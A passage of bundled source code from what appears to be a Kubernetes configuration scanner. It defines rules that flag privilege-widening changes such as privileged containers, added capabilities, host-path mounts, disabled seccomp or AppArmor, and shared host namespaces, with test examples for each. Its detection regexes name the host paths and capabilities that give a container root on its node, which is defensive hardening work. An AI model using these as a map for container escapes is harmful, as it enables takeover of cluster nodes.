    { before: claim3("data"), after: claim3("store"), outcome: "relied-on" },
    { before: web("web"), after: web("front"), outcome: "other" },
    { before: web("web"), after: web("web", "Deployment", "front"), outcome: "other" },
    { before: web("web"), after: web("web", "DaemonSet"), outcome: "other" },
    { before: secret2("web", "web"), after: secret2("front", "front"), outcome: "followed" },
    { before: secret2("web", "web"), after: secret2("front", "web"), outcome: "other" },
    { before: policy2("web"), after: policy2("front"), outcome: "by-none" },
    { before: web("web"), after: web("{{ .Release.Name }}"), outcome: "none" },
    { before: web("web"), after: web('"web"'), outcome: "none" },
    { before: web("web-v1.2.0"), after: web("web-v1.3.0"), outcome: "none" }
  ],
  classify({ objectKind, what, isFollowed: isFollowed2 }) {
    if (isFollowed2 === true) return "followed";
    if (RELIED_ON.has(objectKind)) return "relied-on";
    return what === "name" && CALLED_BY_NONE.has(objectKind) ? "by-none" : "other";
  }
});

// src/domains/config/rules/kubernetes/pod-accounts.ts
var SANDBOX = /gvisor|runsc|kata|firecracker|sandbox/i;
var isSandbox = (node) => node.kind === "scalar" ? Number(SANDBOX.test(node.text)) : void 0;
var LEGACY_PROFILE = /^(?:(?:container\.)?seccomp\.security\.alpha\.kubernetes\.io|container\.apparmor\.security\.beta\.kubernetes\.io)\//;
var annotations = annotated("v1", "Pod");
var profile = (name = "") => annotations(name === "" ? "" : `container.apparmor.security.beta.kubernetes.io/web: ${name}`);
var isTolerations = (setting) => inPod("tolerations")(setting) && (setting.path.at(-1)?.kind === "key" || setting.ownerBefore !== void 0 && setting.ownerAfter !== void 0);
var isNodeLabel = ({ keys, ownerBefore, ownerAfter }) => keys.at(-2) === "nodeSelector" && ownerBefore !== void 0 && ownerAfter !== void 0;
var pod_accounts_default = [
  control({
    id: "config/service-account-changed",
    class: "permission-widening",
    title: "pod runs under another account",
    why: "The pod may now do what the other account may do, and no longer what its own did.",
    fix: "Compare what is bound to both accounts.",
    equivalents: ["checkov:CKV_K8S_41", "kube-linter:default-service-account"],
    dialect: WORKLOADS2,
    governs: inPod("serviceAccountName"),
    rank: untouched,
    outcomes: {
      another: moved2("low"),
      default: {
        ...moved2("medium"),
        title: "pod runs under the default account",
        why: "Every pod without an account of its own shares `default`, and gets whatever is granted to it.",
        fix: "Give the pod an account of its own."
      }
    },
    refine: ({ transition, to = "default" }) => {
      if (transition !== "flip" && transition !== "drop") return void 0;
      return to === "default" ? "default" : "another";
    },
    examples: [
      { before: pod("serviceAccountName: web"), after: pod("serviceAccountName: admin"), outcome: "another" },
      { before: pod("serviceAccountName: web"), after: pod("serviceAccountName: default"), outcome: "default" },
      { before: pod("serviceAccountName: web"), after: pod(), outcome: "default" },
      { before: pod(), after: pod("serviceAccountName: web"), outcome: "none" },
      { before: pod("serviceAccountName: web"), after: pod('serviceAccountName: "{{ .Values.sa }}"'), outcome: "none" },
      { before: pod("serviceAccountName: web"), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/sandbox-removed",
    class: "permission-widening",
    title: "sandbox of the pod removed",
    why: "The pod now shares the kernel of its node: a bug of the kernel is a way out of the container.",
    fix: "Keep the runtime class for code you do not trust.",
    dialect: WORKLOADS2,
    governs: inPod("runtimeClassName"),
    rank: isSandbox,
    ...safeWhenSet({
      risk: "medium",
      praise: "pod now runs in a sandbox",
      weak: "runtimeClassName: runc",
      safe: "runtimeClassName: gvisor",
      file: pod
    })
  }),
  control({
    id: "config/placement-removed",
    class: "availability",
    title: "rule of placement removed",
    why: "The pod may land on other nodes, or give way to other pods where room is short.",
    fix: "Check that the nodes it may land on suit it.",
    dialect: WORKLOADS2,
    governs: either(inPod("priorityClassName"), inPod("nodeSelector"), isTolerations, isNodeLabel),
    rank: (node, { before: before3 }) => Number(before3 === void 0 || node === before3),
    absent: 0,
    outcomes: {
      drop: { risk: "low", message: (c) => `\`${c.name}\` of the pod was removed.` },
      flip: { ...moved2("low"), title: "rule of placement changed" },
      hardened: added("rule of placement added", "rule of placement")
    },
    examples: [
      { before: pod("priorityClassName: critical"), after: pod(), outcome: "drop" },
      { before: pod("nodeSelector: { disk: ssd }"), after: pod(), outcome: "drop" },
      { before: pod(), after: pod("nodeSelector: { disk: ssd }"), outcome: "hardened" },
      { before: pod("priorityClassName: critical"), after: pod("priorityClassName: high"), outcome: "flip" },
      { before: pod("tolerations: [{ key: gpu }]"), after: pod(), outcome: "drop" },
      { before: pod("nodeSelector: { disk: ssd }"), after: "", outcome: "none" }
    ]
  }),
  control({
    id: "config/legacy-profile-unconfined",
    class: "permission-widening",
    title: "profile of the container switched off",
    why: "The kernel no longer limits which system calls and files the process may use.",
    fix: "Set `runtime/default` again, or move to the fields of the security context.",
    equivalents: ["checkov:CKV_K8S_31"],
    dialect: WORKLOADS2,
    governs: ({ keys }) => LEGACY_PROFILE.test(keys.at(-1) ?? "") && /annotations$/i.test(keys.at(-2) ?? ""),
    rank: (node) => node.kind === "scalar" ? Number(node.text !== "unconfined") : void 0,
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      born: moved2("medium"),
      drop: moved2("medium"),
      hardened: hardened("profile of the container set")
    },
    examples: [
      { before: profile("runtime/default"), after: profile("unconfined"), outcome: "flip" },
      { before: profile(), after: profile("unconfined"), outcome: "open" },
      { before: "", after: profile("unconfined"), outcome: "born" },
      { before: profile("unconfined"), after: profile("runtime/default"), outcome: "hardened" },
      { before: profile("runtime/default"), after: profile(), outcome: "drop" },
      { before: profile("localhost/web"), after: profile("runtime/default"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/pod-capabilities.ts
var pod_capabilities_default = [
  control({
    id: "config/capability-added",
    class: "permission-widening",
    title: "container gains a capability",
    why: "The process may do on the kernel what it could not before, and so may whoever takes it over.",
    fix: "Remove the capability, or add only the single one the process needs.",
    equivalents: ["checkov:CKV_K8S_25", "checkov:CKV_K8S_39"],
    dialect: WORKLOADS2,
    governs: isEffective("capabilities.add"),
    rank: () => 0,
    absent: 1,
    outcomes: {
      open: { risk: "high", message: (c) => `The container gains the capability \`${c.to ?? ""}\`.` },
      born: { risk: "medium", message: (c) => `A new container has the capability \`${c.to ?? ""}\`.` },
      "open-node": {
        risk: "critical",
        message: (c) => `The container gains the capability \`${c.to ?? ""}\`.`,
        why: "This capability is as good as root on the node."
      },
      "born-node": {
        risk: "high",
        message: (c) => `A new container has the capability \`${c.to ?? ""}\`.`,
        why: "This capability is as good as root on the node."
      },
      hardened: {
        ...hardened("container gives up a capability"),
        message: (c) => `The container no longer has the capability \`${c.from ?? ""}\`.`
      }
    },
    refine: ({ transition, to = "" }) => {
      if (transition === "hardened") return "hardened";
      if (transition === "born") return takesHost(to) ? "born-node" : "born";
      return takesHost(to) ? "open-node" : "open";
    },
    examples: [
      {
        before: container(),
        after: container("securityContext: { capabilities: { add: [NET_ADMIN] } }"),
        outcome: "open"
      },
      { before: "", after: container("securityContext: { capabilities: { add: [NET_ADMIN] } }"), outcome: "born" },
      {
        before: container("securityContext: { capabilities: { add: [NET_ADMIN] } }"),
        after: container("securityContext: { capabilities: { add: [NET_ADMIN, CAP_SYS_ADMIN] } }"),
        outcome: "open-node"
      },
      { before: "", after: container("securityContext: { capabilities: { add: [ALL] } }"), outcome: "born-node" },
      {
        before: container("securityContext: { capabilities: { add: [SYS_TIME] } }"),
        after: container(),
        outcome: "hardened"
      },
      {
        before: container("securityContext: { capabilities: { add: [SYS_TIME, NET_ADMIN] } }"),
        after: container("securityContext: { capabilities: { add: [net_admin, cap_sys_time] } }"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/capability-kept",
    class: "permission-widening",
    title: "capabilities no longer dropped",
    why: "The process keeps rights of the kernel that it gave up before.",
    fix: "Drop `ALL` again, and add the single capabilities the process needs.",
    equivalents: ["checkov:CKV_K8S_28", "checkov:CKV_K8S_37", "kube-linter:drop-net-raw-capability"],
    dialect: WORKLOADS2,
    governs: isEffective("capabilities.drop"),
    rank: () => 1,
    absent: 0,
    outcomes: {
      drop: { risk: "medium", message: (c) => `The container no longer drops the capability \`${c.from ?? ""}\`.` },
      hardened: {
        ...hardened("capabilities now dropped"),
        message: (c) => `The container now drops the capability \`${c.to ?? ""}\`.`
      }
    },
    examples: [
      {
        before: container("securityContext: { capabilities: { drop: [ALL] } }"),
        after: container("securityContext: { capabilities: { drop: [NET_RAW] } }"),
        outcome: "drop"
      },
      {
        before: container("securityContext: { capabilities: { drop: [NET_RAW] } }"),
        after: container("securityContext: { capabilities: { drop: [all] } }"),
        outcome: "hardened"
      },
      {
        before: container("securityContext: { capabilities: { drop: [ALL] } }"),
        after: container('securityContext: { capabilities: { drop: ["all"] } }'),
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/kubernetes/pod-groups.ts
var group2 = (lines) => pod(`securityContext: { ${lines} }`);
var isMutable = (image) => !image.includes("@") && !/:[^:/]*\d[^:/]*$/.test(image);
function pulls(node, { ownerAfter }) {
  const image = textAt(ownerAfter, "image");
  return node.kind !== "scalar" || image === void 0 || !isMutable(image) ? void 0 : Number(node.text === "Always");
}
var pulled = (policy4, image = "shop/web:latest") => container(policy4 === "" ? "" : `imagePullPolicy: ${policy4}`).replace("image: web", `image: ${image}`);
var pod_groups_default = [
  control({
    id: "config/group-root",
    class: "permission-widening",
    title: "container joins group 0",
    why: "Group 0 may read, and often write, what root keeps from others, in the image and on shared volumes.",
    fix: "Give the process a group of its own, above 0.",
    dialect: WORKLOADS2,
    governs: either(
      isEffectiveOrApart("runAsGroup"),
      inPod("securityContext", "fsGroup"),
      inPod("securityContext", "supplementalGroups")
    ),
    rank: (node) => Number(!textsOf(node).includes("0")),
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      born: moved2("medium"),
      drop: {
        ...moved2("low"),
        title: "group left to the image",
        why: "The image decides which group the process runs as; many images say root.",
        fix: "Keep the group."
      },
      hardened: hardened("container no longer in group 0")
    },
    examples: [
      { before: group2("runAsGroup: 1000"), after: group2("runAsGroup: 0"), outcome: "flip" },
      { before: group2("supplementalGroups: [7]"), after: group2("supplementalGroups: [7, 0]"), outcome: "flip" },
      { before: pod(), after: group2("runAsGroup: 0"), outcome: "open" },
      { before: "", after: group2("runAsGroup: 0"), outcome: "born" },
      { before: group2("fsGroup: 1000"), after: pod(), outcome: "drop" },
      { before: group2("fsGroup: 0"), after: group2("fsGroup: 1000"), outcome: "hardened" },
      { before: group2("fsGroup: 1000"), after: group2("fsGroup: 2000"), outcome: "none" }
    ]
  }),
  control({
    id: "config/image-pull-relaxed",
    class: "supply-chain",
    title: "tag that moves no longer pulled again",
    why: "Each node keeps whatever the tag stood for when it first pulled it: pods of one workload run different images.",
    fix: "Keep `Always`, or name a version or a digest.",
    equivalents: ["checkov:CKV_K8S_15"],
    dialect: WORKLOADS2,
    governs: inContainer("imagePullPolicy"),
    rank: pulls,
    absent: 1,
    outcomes: { flip: moved2("low"), open: moved2("low"), hardened: hardened("tag that moves pulled each time") },
    refine: ({ transition }) => transition === "born" || transition === "drop" || transition === "template" ? void 0 : transition,
    examples: [
      { before: pulled("Always"), after: pulled("IfNotPresent"), outcome: "flip" },
      { before: pulled(""), after: pulled("Never"), outcome: "open" },
      { before: pulled("Never"), after: pulled("Always"), outcome: "hardened" },
      { before: pulled("Always", "web:1.2.3"), after: pulled("IfNotPresent", "web:1.2.3"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/kubernetes/pod-host-access.ts
var NODE_TAKING = /^\/(?:$|(?:etc|root|proc|sys|dev|boot|home|usr|bin|sbin|lib|lib64)(?:$|\/$)|etc\/kubernetes|var\/?$|var\/run\/?$|run\/?$|var\/lib\/?$|var\/lib\/(?:kubelet|docker|containerd|etcd)\/?$|(?:var\/)?run\/(?:docker|containerd|crio|cri-dockerd|podman)\b.*|.*\.sock$)/;
var UNSAFE_SYSCTL = /^(?:kernel[./](?!shm_rmid_forced$)|fs[./]mqueue|net[./](?!ipv4[./](?:ip_local_port_range|tcp_syncookies|ping_group_range|ip_unprivileged_port_start|ip_local_reserved_ports|tcp_keepalive_\w+|tcp_fin_timeout|tcp_[rw]mem)$))/;
var volume2 = (path27) => `volumes: [{ name: host, hostPath: { path: ${path27} } }]`;
var PRIVILEGED2 = container("securityContext: { privileged: true }");
var mount = (rest) => pod("volumes: [{ name: host, hostPath: { path: /var/log } }]").replace(
  "image: web",
  `image: web, volumeMounts: [{ name: host, mountPath: /logs${rest} }]`
);
var pod_host_access_default = [
  control({
    id: "config/host-path",
    class: "permission-widening",
    title: "directory of the host mounted",
    why: "Whoever takes over the container reads those files of the host, and changes them unless the mount is read-only.",
    fix: "Use a volume of its own; if it must be the host\u2019s, mount the narrowest directory read-only.",
    equivalents: ["checkov:CKV_K8S_27", "kube-linter:docker-sock", "kube-linter:sensitive-host-mounts"],
    dialect: WORKLOADS2,
    governs: either(isEffective("hostPath"), isEffective("hostPath.ofPrivileged")),
    rank: () => 0,
    absent: 1,
    outcomes: {
      open: { risk: "high", message: (c) => `\`${c.to ?? ""}\` of the host is now mounted.` },
      born: { risk: "medium", message: (c) => `A new workload mounts \`${c.to ?? ""}\` of the host.` },
      "open-node": {
        risk: "critical",
        message: (c) => `\`${c.to ?? ""}\` of the host is now mounted.`,
        why: "With this path a process in the container becomes root on the host."
      },
      "born-node": {
        risk: "high",
        message: (c) => `A new workload mounts \`${c.to ?? ""}\` of the host.`,
        why: "With this path a process in the container becomes root on the host."
      },
      "open-privileged": {
        risk: "medium",
        message: (c) => `\`${c.to ?? ""}\` of the host is now mounted.`,
        why: "The pod was privileged and could reach these files before; now a mistake in it reaches them too.",
        fix: "Mount the narrowest directory, and read-only."
      },
      "born-privileged": {
        risk: "info",
        message: (c) => `A new workload mounts \`${c.to ?? ""}\` of the host.`,
        why: "Its privileged container reaches these files anyway; a mistake in it reaches them too.",
        fix: "Mount the narrowest directory, and read-only."
      },
      hardened: {
        ...hardened("directory of the host no longer mounted"),
        message: (c) => `\`${c.from ?? ""}\` of the host is no longer mounted.`
      }
    },
    refine: ({ transition, name, to = "" }) => {
      if (transition === "hardened") return "hardened";
      if (name === "hostPath.ofPrivileged") return transition === "born" ? "born-privileged" : "open-privileged";
      if (transition === "born") return NODE_TAKING.test(to) ? "born-node" : "born";
      return NODE_TAKING.test(to) ? "open-node" : "open";
    },
    examples: [
      { before: pod(), after: pod(volume2("/srv/data")), outcome: "open" },
      { before: "", after: pod(volume2("/srv/data")), outcome: "born" },
      { before: pod(), after: pod(volume2("/var/run/docker.sock")), outcome: "open-node" },
      { before: pod(volume2("/srv/data")), after: pod(volume2("/")), outcome: "open-node" },
      { before: "", after: pod(volume2("/proc")), outcome: "born-node" },
      { before: PRIVILEGED2, after: `${PRIVILEGED2}      ${volume2("/boot")}
`, outcome: "open-privileged" },
      { before: "", after: `${PRIVILEGED2}      ${volume2("/boot")}
`, outcome: "born-privileged" },
      { before: pod(volume2("/srv/data")), after: pod(), outcome: "hardened" },
      { before: pod(volume2(`'{{ .Values.root | default "/" }}'`)), after: pod(volume2("/")), outcome: "none" },
      {
        before: pod(volume2("/srv")),
        after: pod("volumes: [{ name: renamed, hostPath: { path: /srv/data } }]"),
        outcome: "hardened"
      },
      { before: pod(), after: pod("volumes: [{ name: scratch, emptyDir: {} }]"), outcome: "none" }
    ]
  }),
  control({
    id: "config/host-path-writable",
    class: "permission-widening",
    title: "directory of the host made writable",
    why: "A process in the container can now change those files of the host.",
    fix: "Mount it read-only again.",
    equivalents: ["kube-linter:writable-host-mount"],
    dialect: WORKLOADS2,
    governs: isEffective("hostPath.readOnly"),
    rank: safeOn,
    ...safeWhenSet({
      risk: "high",
      praise: "directory of the host now read-only",
      weak: ", readOnly: false",
      safe: ", readOnly: true",
      file: mount
    })
  }),
  control({
    id: "config/unsafe-sysctl",
    class: "permission-widening",
    title: "pod changes an unsafe kernel setting",
    why: "The setting is not kept apart from other pods of the node: it can starve or disturb them.",
    fix: "Remove it; if the pod needs it, give such pods nodes of their own.",
    equivalents: ["kube-linter:unsafe-sysctls"],
    dialect: WORKLOADS2,
    governs: isEffective("sysctls"),
    rank: (node) => node.kind === "scalar" && UNSAFE_SYSCTL.test(node.text) ? 0 : void 0,
    absent: 1,
    outcomes: {
      open: { risk: "medium", message: (c) => `The pod now sets \`${c.to ?? ""}\`.` },
      born: { risk: "low", message: (c) => `A new pod sets \`${c.to ?? ""}\`.` }
    },
    examples: [
      {
        before: pod(),
        after: pod('securityContext: { sysctls: [{ name: kernel.msgmax, value: "65536" }] }'),
        outcome: "open"
      },
      {
        before: "",
        after: pod('securityContext: { sysctls: [{ name: net.core.somaxconn, value: "1" }] }'),
        outcome: "born"
      },
      {
        before: pod(),
        after: pod('securityContext: { sysctls: [{ name: net.ipv4.tcp_syncookies, value: "1" }] }'),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/host-port",
    class: "exposure",
    title: "port opened on the node",
    why: "Everybody who reaches the node reaches the container, past Services and most network policies.",
    fix: "Remove `hostPort`; publish the port through a Service.",
    equivalents: ["checkov:CKV_K8S_26"],
    dialect: WORKLOADS2,
    governs: inContainer("ports", "hostPort"),
    rank: (node) => node.kind === "scalar" && node.text === "0" ? 1 : 0,
    absent: 1,
    outcomes: {
      open: moved2("medium"),
      born: moved2("low"),
      hardened: hardened("port no longer open on the node")
    },
    examples: [
      {
        before: container("ports: [{ name: http, containerPort: 80 }]"),
        after: container("ports: [{ name: http, containerPort: 80, hostPort: 80 }]"),
        outcome: "open"
      },
      { before: "", after: container("ports: [{ name: http, containerPort: 80, hostPort: 80 }]"), outcome: "born" },
      {
        before: container("ports: [{ name: http, containerPort: 80, hostPort: 80 }]"),
        after: container("ports: [{ name: http, containerPort: 80 }]"),
        outcome: "hardened"
      },
      {
        before: container("ports: [{ name: http, containerPort: 80, hostPort: 80 }]"),
        after: container("ports: [{ name: http, containerPort: 80, hostPort: 81 }]"),
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/kubernetes/pod-identity.ts
var LOOSE = /^(?:spc_t|unconfined_t|super_t|container_(?:userns|device(?:_plugin)?)_t)$/;
var ROOMY = /^container_(?:engine|init|kvm)_t$/;
function confinement(node) {
  if (node.kind !== "scalar") return void 0;
  if (LOOSE.test(node.text)) return 0;
  if (ROOMY.test(node.text)) return 1;
  return node.text === "container_t" ? 2 : 3;
}
var pod_identity_default = [
  control({
    id: "config/runs-as-root",
    class: "permission-widening",
    title: "container may run as root",
    why: "Root in the container turns many a bug of the process or the runtime into control of the node.",
    fix: "Keep `runAsNonRoot: true` in the container or its pod.",
    equivalents: ["checkov:CKV_K8S_23", "kube-linter:run-as-non-root"],
    dialect: WORKLOADS2,
    governs: isEffectiveOrApart("runAsNonRoot"),
    rank: safeOn,
    ...safeWhenSet({
      risk: "high",
      dropped: "medium",
      praise: "container no longer runs as root",
      weak: "securityContext: { runAsNonRoot: false }",
      safe: "securityContext: { runAsNonRoot: true }",
      file: container
    })
  }),
  control({
    id: "config/user-root",
    class: "permission-widening",
    title: "container runs as user 0",
    why: "User 0 is root: a bug of the process or the runtime becomes control of the node.",
    fix: "Give the process a user of its own, above 0.",
    equivalents: ["checkov:CKV_K8S_40", "kube-linter:run-as-non-root"],
    dialect: WORKLOADS2,
    governs: either(isEffectiveOrApart("runAsUser"), inService("user")),
    rank: (node) => node.kind === "scalar" ? Number(!/^(?:0|root)(?::|$)/.test(node.text)) : void 0,
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      born: moved2("medium"),
      drop: {
        ...moved2("low"),
        title: "user left to the image",
        why: "The image decides who the process runs as; many images say root.",
        fix: "Keep `runAsUser`, or require `runAsNonRoot: true`."
      },
      hardened: hardened("container no longer runs as user 0")
    },
    examples: [
      {
        before: pod("securityContext: { runAsUser: 1000 }"),
        after: pod("securityContext: { runAsUser: 0 }"),
        outcome: "flip"
      },
      { before: container(), after: container("securityContext: { runAsUser: 0 }"), outcome: "open" },
      { before: "", after: container("securityContext: { runAsUser: 0 }"), outcome: "born" },
      { before: pod("securityContext: { runAsUser: 1000 }"), after: pod(), outcome: "drop" },
      {
        before: pod("securityContext: { runAsUser: 0 }"),
        after: pod("securityContext: { runAsUser: 1000 }"),
        outcome: "hardened"
      },
      {
        before: pod("securityContext: { runAsUser: 1000 }"),
        after: pod("securityContext: { runAsUser: 2000 }"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/seccomp-unconfined",
    class: "permission-widening",
    title: "system calls no longer filtered",
    why: "Without a seccomp profile the process may make every system call, which widens the way to bugs of the kernel.",
    fix: "Set `seccompProfile: { type: RuntimeDefault }` again.",
    equivalents: ["checkov:CKV_K8S_31"],
    dialect: WORKLOADS2,
    governs: isEffectiveOrApart("seccompProfile", "type"),
    rank: unless("Unconfined"),
    ...safeWhenSet({
      risk: "high",
      dropped: "medium",
      praise: "system calls now filtered",
      weak: "securityContext: { seccompProfile: { type: Unconfined } }",
      safe: "securityContext: { seccompProfile: { type: RuntimeDefault } }",
      file: pod
    })
  }),
  control({
    id: "config/apparmor-unconfined",
    class: "permission-widening",
    title: "AppArmor profile taken off",
    why: "The kernel no longer holds the process to the files and rights its profile lists.",
    fix: "Set `appArmorProfile: { type: RuntimeDefault }` again.",
    dialect: WORKLOADS2,
    governs: isEffectiveOrApart("appArmorProfile", "type"),
    rank: unless("Unconfined"),
    ...safeWhenSet({
      risk: "high",
      dropped: "medium",
      praise: "AppArmor profile now applied",
      weak: "securityContext: { appArmorProfile: { type: Unconfined } }",
      safe: "securityContext: { appArmorProfile: { type: RuntimeDefault } }",
      file: container
    })
  }),
  control({
    id: "config/selinux-unconfined",
    class: "permission-widening",
    title: "SELinux confinement lifted",
    why: "Processes of this SELinux type may do on the node what the container walls should forbid.",
    fix: "Remove the type, or name one that confines the process.",
    dialect: WORKLOADS2,
    governs: isEffectiveOrApart("seLinuxOptions", "type"),
    rank: confinement,
    absent: 2,
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      born: moved2("medium"),
      drop: {
        ...moved2("low"),
        title: "SELinux type left to the runtime",
        why: "The process gets the type of every other container, whatever its own allowed or forbade.",
        fix: "Keep the type that was made for the process."
      },
      roomy: {
        ...moved2("low"),
        title: "SELinux type with more room",
        why: "The `baseline` standard allows this type, yet it lets a process do more than that of every other container.",
        fix: "Keep it only where the process needs it, as an engine of containers does."
      },
      hardened: hardened("SELinux confines the process again")
    },
    refine: ({ transition, to }) => {
      if (transition === "template") return void 0;
      if (ROOMY.test(to ?? "") && transition !== "hardened") return transition === "born" ? void 0 : "roomy";
      return transition === "flip" && to === "container_t" ? "drop" : transition;
    },
    examples: [
      {
        before: container("securityContext: { seLinuxOptions: { type: container_t } }"),
        after: container("securityContext: { seLinuxOptions: { type: spc_t } }"),
        outcome: "flip"
      },
      {
        before: container(),
        after: container("securityContext: { seLinuxOptions: { type: spc_t } }"),
        outcome: "open"
      },
      { before: "", after: container("securityContext: { seLinuxOptions: { type: spc_t } }"), outcome: "born" },
      {
        before: container("securityContext: { seLinuxOptions: { type: spc_t } }"),
        after: container(),
        outcome: "hardened"
      },
      {
        before: container("securityContext: { seLinuxOptions: { type: shop_t } }"),
        after: container(),
        outcome: "drop"
      },
      {
        before: container(),
        after: container("securityContext: { seLinuxOptions: { type: container_kvm_t } }"),
        outcome: "roomy"
      },
      {
        before: container(),
        after: container("securityContext: { seLinuxOptions: { type: container_t } }"),
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/kubernetes/pod-privileges.ts
var pod_privileges_default = [
  control({
    id: "config/privileged-container",
    class: "permission-widening",
    title: "container made privileged",
    why: "A privileged container is root on its host: whoever takes it over takes the host and all that runs there.",
    fix: "Remove `privileged` and add only the capabilities the process needs.",
    equivalents: ["checkov:CKV_K8S_16", "kube-linter:privileged-container"],
    dialect: WORKLOADS2,
    governs: either(inContainer("securityContext", "privileged"), inService("privileged")),
    rank: safeOff,
    ...weakWhenSet({
      risk: "critical",
      praise: "no longer privileged",
      weak: "securityContext: { privileged: true }",
      safe: "securityContext: { privileged: false }",
      file: container
    })
  }),
  control({
    id: "config/privilege-escalation",
    class: "permission-widening",
    title: "privilege escalation allowed",
    why: "A process can gain more rights than its parent through setuid programs: one bug in the container becomes root in it.",
    fix: "Set `allowPrivilegeEscalation: false` again.",
    equivalents: ["checkov:CKV_K8S_20", "kube-linter:privilege-escalation-container"],
    dialect: WORKLOADS2,
    governs: inContainer("securityContext", "allowPrivilegeEscalation"),
    rank: safeOff,
    ...safeWhenSet({
      risk: "high",
      dropped: "medium",
      praise: "privilege escalation now forbidden",
      weak: "securityContext: { allowPrivilegeEscalation: true }",
      safe: "securityContext: { allowPrivilegeEscalation: false }",
      file: container
    })
  }),
  control({
    id: "config/writable-root-filesystem",
    class: "permission-widening",
    title: "root file system made writable",
    why: "Whoever gets into the container can change its programs and leave tools behind.",
    fix: "Set `readOnlyRootFilesystem: true` and mount an `emptyDir` where the process writes.",
    equivalents: ["checkov:CKV_K8S_22", "kube-linter:no-read-only-root-fs"],
    dialect: WORKLOADS2,
    governs: either(inContainer("securityContext", "readOnlyRootFilesystem"), inService("read_only")),
    rank: safeOn,
    ...safeWhenSet({
      risk: "medium",
      praise: "root file system now read-only",
      weak: "securityContext: { readOnlyRootFilesystem: false }",
      safe: "securityContext: { readOnlyRootFilesystem: true }",
      file: container
    })
  }),
  control({
    id: "config/unmasked-proc",
    class: "permission-widening",
    title: "kernel files unmasked",
    why: "The container sees and writes parts of `/proc` that the runtime hides, which helps it out of its walls.",
    fix: "Remove `procMount`.",
    equivalents: ["kube-linter:unsafe-proc-mount"],
    dialect: WORKLOADS2,
    governs: inContainer("securityContext", "procMount"),
    rank: unless("Unmasked"),
    ...weakWhenSet({
      risk: "high",
      praise: "kernel files masked again",
      weak: "securityContext: { procMount: Unmasked }",
      safe: "securityContext: { procMount: Default }",
      file: container
    })
  }),
  control({
    id: "config/windows-host-process",
    class: "permission-widening",
    title: "container runs as a process of the Windows host",
    why: "A host process has the rights of its account on the node itself: the container has no walls.",
    fix: "Remove `hostProcess`, or keep it to a node agent that needs it.",
    dialect: WORKLOADS2,
    governs: ({ keys }) => keys.at(-1) === "hostProcess" && keys.at(-2) === "windowsOptions",
    rank: safeOff,
    ...weakWhenSet({
      risk: "critical",
      praise: "no longer a process of the host",
      weak: "securityContext: { windowsOptions: { hostProcess: true } }",
      safe: "securityContext: { windowsOptions: { hostProcess: false } }",
      file: container
    })
  }),
  control({
    id: "config/service-account-token",
    class: "permission-widening",
    title: "service account token mounted",
    why: "Whoever gets into a container finds a token for the API server in it.",
    fix: "Set `automountServiceAccountToken: false` again, unless the process calls the API server.",
    equivalents: ["checkov:CKV_K8S_38"],
    dialect: WORKLOADS2,
    governs: ({ keys }) => keys.at(-1) === "automountServiceAccountToken" || keys.slice(-2).join(".") === "serviceAccount.automount",
    rank: safeOff,
    ...safeWhenSet({
      risk: "medium",
      praise: "service account token no longer mounted",
      weak: "automountServiceAccountToken: true",
      safe: "automountServiceAccountToken: false",
      file: pod
    })
  })
];

// src/domains/config/rules/kubernetes/pod-sharing.ts
var apartFromHost = (node) => node.kind === "scalar" ? Number(node.text !== "host" && switchOf(node) !== true) : void 0;
var pod_sharing_default = [
  control({
    id: "config/host-network",
    class: "exposure",
    title: "container joins the network of its host",
    why: "It sees all traffic of the host and opens its ports there; network policies no longer hold it.",
    fix: "Remove the setting, and publish only the ports that must be reached.",
    equivalents: ["checkov:CKV_K8S_19", "kube-linter:host-network"],
    dialect: WORKLOADS2,
    governs: either(inPod("hostNetwork"), inService("network_mode")),
    rank: apartFromHost,
    ...weakWhenSet({
      risk: "high",
      praise: "container has a network of its own again",
      weak: "hostNetwork: true",
      safe: "hostNetwork: false",
      file: pod
    })
  }),
  control({
    id: "config/host-pid",
    class: "permission-widening",
    title: "container shares the processes of its host",
    why: "It sees every process of the host, with their environments and files, and may signal them.",
    fix: "Remove the setting.",
    equivalents: ["checkov:CKV_K8S_17", "kube-linter:host-pid"],
    dialect: WORKLOADS2,
    governs: either(inPod("hostPID"), inService("pid")),
    rank: apartFromHost,
    ...weakWhenSet({
      risk: "critical",
      praise: "container has processes of its own again",
      weak: "hostPID: true",
      safe: "hostPID: false",
      file: pod
    })
  }),
  control({
    id: "config/host-ipc",
    class: "permission-widening",
    title: "container shares the memory of its host",
    why: "It can read and write shared memory of every other process on the host.",
    fix: "Remove the setting.",
    equivalents: ["checkov:CKV_K8S_18", "kube-linter:host-ipc"],
    dialect: WORKLOADS2,
    governs: either(inPod("hostIPC"), inService("ipc")),
    rank: apartFromHost,
    ...weakWhenSet({
      risk: "high",
      praise: "container has memory of its own again",
      weak: "hostIPC: true",
      safe: "hostIPC: false",
      file: pod
    })
  }),
  control({
    id: "config/host-users",
    class: "permission-widening",
    title: "pod shares the users of its node",
    why: "Root in the container is root on the node again, should it break out.",
    fix: "Set `hostUsers: false` again.",
    dialect: WORKLOADS2,
    governs: inPod("hostUsers"),
    rank: safeOff,
    ...safeWhenSet({
      risk: "medium",
      praise: "pod has users of its own",
      weak: "hostUsers: true",
      safe: "hostUsers: false",
      file: pod
    })
  }),
  control({
    id: "config/shared-processes",
    class: "permission-widening",
    title: "containers share one process space",
    why: "Each container of the pod reads the memory, files and secrets of the others.",
    fix: "Remove `shareProcessNamespace`.",
    dialect: WORKLOADS2,
    governs: inPod("shareProcessNamespace"),
    rank: safeOff,
    ...weakWhenSet({
      risk: "medium",
      praise: "containers have processes of their own again",
      weak: "shareProcessNamespace: true",
      safe: "shareProcessNamespace: false",
      file: pod
    })
  })
];

// src/domains/config/rules/kubernetes/policy-enforcement.ts
var kyverno = object("kyverno.io/v1", "ClusterPolicy");
var constraint = object("constraints.gatekeeper.sh/v1beta1", "K8sRequiredLabels");
